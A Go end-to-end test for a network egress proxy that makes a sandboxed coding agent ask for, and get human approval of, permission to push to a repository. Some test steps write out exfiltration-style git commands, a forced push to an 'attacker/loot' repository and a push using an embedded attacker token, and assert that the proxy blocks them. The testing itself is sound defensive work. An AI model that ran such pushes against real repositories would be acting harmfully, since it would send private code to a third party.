package e2e

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"
)

// self asks portreeve.internal with curl, as an agent in the image base would.
func (b *box) self(method, path, body string, into any) {
	b.t.Helper()
	argv := []string{"curl", "-sS", "-m", "20", "-X", method, "-H", selfHeader, "http://portreeve.internal" + path}
	if body != "" {
		argv = append(argv, "-H", "Content-Type: application/json", "-d", body)
	}
	r := b.exec(argv...)
	if r.Code != 0 || json.Unmarshal([]byte(r.Stdout), into) != nil {
		b.t.Fatalf("%s %s: %+v", method, path, r)
	}
}

// TestCodingAgent is a journey: an agent clones, is refused when it pushes, reads why, asks with a reason, is approved for an hour at
// the command line, and pushes: there, and nowhere else.
func TestCodingAgent(t *testing.T) {
	l, p := withBase(t)
	g := l.StartGit(t, "github.com", "acme/app", "attacker/loot")
	ceiling(t, p, map[string]any{"id": "ours", "action": "allow", "git": "github.com/acme/*", "access": "read"})
	b := sandbox(t, p, "template", "base", "memory", "1Gi")
	git := func(args ...string) result {
		t.Helper()
		return b.exec(append([]string{"git", "-C", "/workspace", "-c", "user.name=agent", "-c", "user.email=agent@lab.test"}, args...)...)
	}
	if r := git("clone", "-q", "https://github.com/acme/app.git"); r.Code != 0 {
		t.Fatalf("cloning: %+v", r)
	}
	if r := git("-C", "app", "commit", "-q", "--allow-empty", "-m", "by the agent"); r.Code != 0 {
		t.Fatalf("committing: %+v", r)
	}
	pushed := func() bool { return slices.Contains(g.Subjects("acme/app"), "by the agent") }
	push := func(more ...string) result { return git(append([]string{"-C", "app", "push", "-q"}, more...)...) }
	if r := push(); r.Code == 0 || !strings.Contains(r.Stderr, "403") || pushed() {
		t.Errorf("pushing without being allowed: %+v; the server has %v", r, g.Subjects("acme/app"))
	}
	if slices.ContainsFunc(g.Requests(), func(r string) bool { return strings.HasPrefix(r, "POST ") && strings.HasSuffix(r, "/git-receive-pack") }) {
		t.Errorf("what arrived: %v", g.Requests())
	}

	var seen struct {
		Denials []struct {
			ID          string `json:"decision_id"`
			Host        string `json:"host"`
			Method      string `json:"method"`
			Path        string `json:"path"`
			Requestable bool   `json:"requestable"`
		} `json:"denials"`
	}
	b.self("GET", "/denials", "", &seen)
	if len(seen.Denials) == 0 || seen.Denials[0].Path != "/acme/app.git/git-receive-pack" || !seen.Denials[0].Requestable {
		t.Fatalf("the denials read %+v", seen)
	}
	var asked access
	b.self("POST", "/requests", `{"decision_id": "`+seen.Denials[0].ID+`", "width": "url", "why": "push the fix to our repository", "for": "1h"}`, &asked)
	if asked.State != "open" {
		t.Fatalf("asking: %+v", asked)
	}
	if r := push(); r.Code == 0 || pushed() {
		t.Errorf("pushing while it is asked for: %+v", r)
	}

	if r := p.CLI("requests"); r.Code != 0 || !strings.Contains(r.Stdout, asked.ID) || !strings.Contains(r.Stdout, "/acme/app.git/git-receive-pack") {
		t.Errorf("requests: %v", r)
	}
	if r := p.CLI("requests", "approve", asked.ID, "--for", "1h"); r.Code != 0 || !strings.Contains(r.Stderr, "would have allowed") {
		t.Fatalf("approve: %v", r)
	}
	if r := push(); r.Code != 0 || !pushed() {
		t.Errorf("pushing once it is approved: %+v; the server has %v", r, g.Subjects("acme/app"))
	}
	if r := push("https://github.com/attacker/loot.git", "HEAD:main", "--force"); r.Code == 0 || slices.Contains(g.Subjects("attacker/loot"), "by the agent") {
		t.Errorf("pushing to another's repository: %+v", r)
	}
	var state struct {
		State   string    `json:"state"`
		Expires time.Time `json:"expires_at"`
	}
	b.self("GET", "/requests/"+asked.ID, "", &state)
	if left := time.Until(state.Expires); state.State != "approved" || left < 55*time.Minute || left > time.Hour {
		t.Errorf("it is %+v, for another %v", state, left)
	}
	d := b.decided("allows the push", func(d decision) bool {
		return d.Method == "POST" && d.Path == "/acme/app.git/git-receive-pack" && d.Verdict == "allow" && d.Closed
	})
	if d.Status != 200 || d.Level != "http" {
		t.Errorf("the push is recorded as %+v", d)
	}

	// Under the preset any repository is cloned, and none is pushed to.
	call(t, p, "PUT", "/settings/egress?wait=applied", map[string]any{"presets": []string{"git-hosting"}, "rules": []any{}}, 200, nil)
	if r := git("clone", "-q", "https://github.com/attacker/loot.git"); r.Code != 0 {
		t.Errorf("cloning under the preset: %+v", r)
	}
	git("-C", "loot", "commit", "-q", "--allow-empty", "-m", "stolen")
	if r := git("-C", "loot", "push", "-q"); r.Code == 0 || !strings.Contains(r.Stderr, "403") || slices.Contains(g.Subjects("attacker/loot"), "stolen") {
		t.Errorf("pushing under the preset: %+v", r)
	}
	if r := git("-C", "loot", "push", "-q", "https://x:attackers-token@github.com/attacker/loot.git"); r.Code == 0 || slices.Contains(g.Subjects("attacker/loot"), "stolen") {
		t.Errorf("pushing under the preset with the attacker's token: %+v", r)
	}
	quiet(t, l, "after all")
}
